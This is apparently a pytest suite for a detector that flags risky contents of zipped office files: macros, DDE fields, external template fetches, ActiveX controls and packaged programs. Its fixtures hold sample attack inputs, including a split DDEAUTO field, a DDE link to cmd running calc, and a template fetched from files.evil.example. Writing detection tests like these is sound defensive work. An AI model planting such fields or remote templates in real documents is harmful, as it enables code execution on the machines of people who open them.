"""What a zip is by its members: documents, macros, programs, and what is fetched when a document is opened."""

import io
import warnings
import zipfile

import pytest

from rules.facts import Kind
from rules.reading import packages
from rules.reading.packages import ENDED, package_signs

TYPES = '<Types xmlns="x"><Default Extension="xml" ContentType="application/xml"/></Types>'
MACRO_TYPES = TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
WORD = {"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"}


def signs(files):
    return told(zipped(files))


def zipped(files):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return target.getvalue()


def told(octets):
    return {(sign.kind, sign.text) for sign in package_signs(octets)}


def relation(kind, target):
    return (
        f'<Relationships><Relationship Id="r1" Type="http://schemas.example/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def test_a_document_is_a_document():
    assert signs(WORD) == {(Kind.DOCUMENT, "Word document")}


@pytest.mark.parametrize(
    ("more", "text"),
    [
        ({"word/vbaProject.bin": b"x"}, "macros in word/vbaProject.bin"),
        ({"[Content_Types].xml": MACRO_TYPES}, "macros among its content types"),
        ({"xl/vbaProject.bin": b"x"}, "macros in xl/vbaProject.bin"),
        ({"elsewhere\\VBAPROJECT2.BIN": b"x"}, "macros in elsewhere\\VBAPROJECT2.BIN"),
        ({"[Content_Types].xml": MACRO_TYPES.encode("utf-16")}, "macros among its content types"),
        ({"xl/macrosheets/sheet1.xml": "<x/>"}, "Excel 4 macro sheet in xl/macrosheets/sheet1.xml"),
    ],
)
def test_e15_macros_are_found_under_a_harmless_extension(more, text):
    assert (Kind.MACRO_DOCUMENT, text) in signs(WORD | more)


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame"])
def test_e15_what_is_fetched_from_outside_is_told(kind):
    found = signs(WORD | {"word/_rels/settings.xml.rels": relation(kind, "https://a.example/x.dotm")})
    assert (Kind.MACRO_DOCUMENT, f"{kind} fetched from outside when it is opened") in found


@pytest.mark.parametrize(
    "write", [str.encode, lambda text: text.encode("utf-16"), lambda text: text.encode("utf-16-be")]
)
def test_relations_are_read_in_any_charset(write):
    relations = write(relation("attachedTemplate", r"\\files.evil.example\x.dotm"))
    found = signs(WORD | {"word/_rels/settings.xml.rels": relations})
    assert (Kind.MACRO_DOCUMENT, "attachedTemplate fetched from outside when it is opened") in found


def test_the_three_hundredth_relationship_file_is_read_too():
    many = {f"word/_rels/{number}.xml.rels": relation("image", "https://a.example/a.png") for number in range(300)}
    found = signs(WORD | many | {"word/_rels/settings.xml.rels": relation("frame", "https://a.example/x")})
    assert (Kind.MACRO_DOCUMENT, "frame fetched from outside when it is opened") in found


def test_a_part_counts_whatever_its_name_and_folder():
    assert (Kind.MACRO_DOCUMENT, "DDE field") in signs({"[Content_Types].xml": TYPES, "a/b.bin": FIELD})


def test_xml_up_to_the_bound_is_looked_at_and_more_is_told(monkeypatch):
    files = WORD | {"word/a.xml": b"<a>" + b" " * 1_000 + FIELD.encode()}
    monkeypatch.setattr(packages, "_MAX_XML", sum(map(len, files.values())))
    assert (Kind.MACRO_DOCUMENT, "DDE field") in signs(files)
    assert ENDED not in package_signs(zipped(files))
    assert ENDED in package_signs(zipped(files | {"word/a.xml": files["word/a.xml"] + b" "}))


def test_a_second_entry_of_the_same_name_counts():
    """Readers differ in which of the two they take."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for types in (MACRO_TYPES, TYPES):
            archive.writestr("[Content_Types].xml", types)
    assert (Kind.MACRO_DOCUMENT, "macros among its content types") in told(target.getvalue())


FIELD = (
    '<w:document><w:fldChar w:fldCharType="begin"/><w:instrText> DDEAU</w:instrText><w:instrText>TO c:\\x</w:instrText>'
    '<w:fldChar w:fldCharType="end"/></w:document>'
)


@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "word/anything.xml"])
def test_e15_a_field_that_starts_a_program_is_told(part):
    assert (Kind.MACRO_DOCUMENT, "DDE field") in signs(WORD | {part: FIELD})


def test_e15_a_link_that_starts_a_program_is_told():
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    found = signs({"[Content_Types].xml": TYPES, "xl/externalLinks/externalLink1.xml": link})
    assert (Kind.MACRO_DOCUMENT, "DDE link to cmd") in found


@pytest.mark.parametrize(
    ("control", "counts"),
    [("{D27CDB6E-AE6D-11CF-96B8-444553540000}", True), ("{8BD21D40-EC42-11CE-9E0D-00AA006002F3}", False)],
)
def test_controls_count_unless_they_are_those_of_forms(control, counts):
    found = signs(WORD | {"word/activeX/activeX1.xml": f'<ax:ocx ax:classid="{control}"/>'})
    assert ((Kind.ACTIVE_CONTENT, "ActiveX control in word/activeX/activeX1.xml") in found) is counts


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://a.example/"),
        ("attachedTemplate", "file:///C:/Users/ann/AppData/Roaming/Microsoft/Templates/Normal.dotm"),
        ("image", "https://a.example/logo.png"),
    ],
)
def test_links_and_the_offices_own_template_are_not(kind, target):
    assert signs(WORD | {"word/_rels/document.xml.rels": relation(kind, target)}) == {(Kind.DOCUMENT, "Word document")}


@pytest.mark.parametrize(
    ("files", "kind"),
    [
        ({"META-INF/MANIFEST.MF": "", "a/B.class": b"x"}, Kind.SCRIPT),
        ({"AndroidManifest.xml": b"x", "classes.dex": b"x"}, Kind.INSTALLER),
        ({"AppxManifest.xml": "<x/>", "a.txt": ""}, Kind.INSTALLER),
    ],
)
def test_programs_in_zips_are_told(files, kind):
    assert kind in {found for found, _ in signs(files)}


def test_open_document_macros_are_told():
    plain = {"mimetype": "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": "<x/>", "content.xml": "x"}
    assert (Kind.DOCUMENT, "OpenDocument file") in signs({"META-INF/manifest.xml": "<x/>", "content.xml": "<x/>"})
    assert signs(plain) == {(Kind.DOCUMENT, "OpenDocument file")}
    assert (Kind.MACRO_DOCUMENT, "macros in Basic/Standard/Module1.xml") in signs(
        plain | {"Basic/Standard/Module1.xml": "<x/>"}
    )


def test_what_is_no_zip_has_no_signs():
    assert package_signs(b"PK\x03\x04" + bytes(50)) == ()


@pytest.mark.parametrize(("length", "told_of_it"), [(200, 200), (201, 200)])
def test_of_a_name_as_much_is_told_as_has_room(length, told_of_it):
    before = "Excel 4 macro sheet in "
    name = "xl/macrosheets/".ljust(length - len(before), "a")
    assert (Kind.MACRO_DOCUMENT, f"{before}{name}"[:told_of_it]) in signs(WORD | {name: "x"})
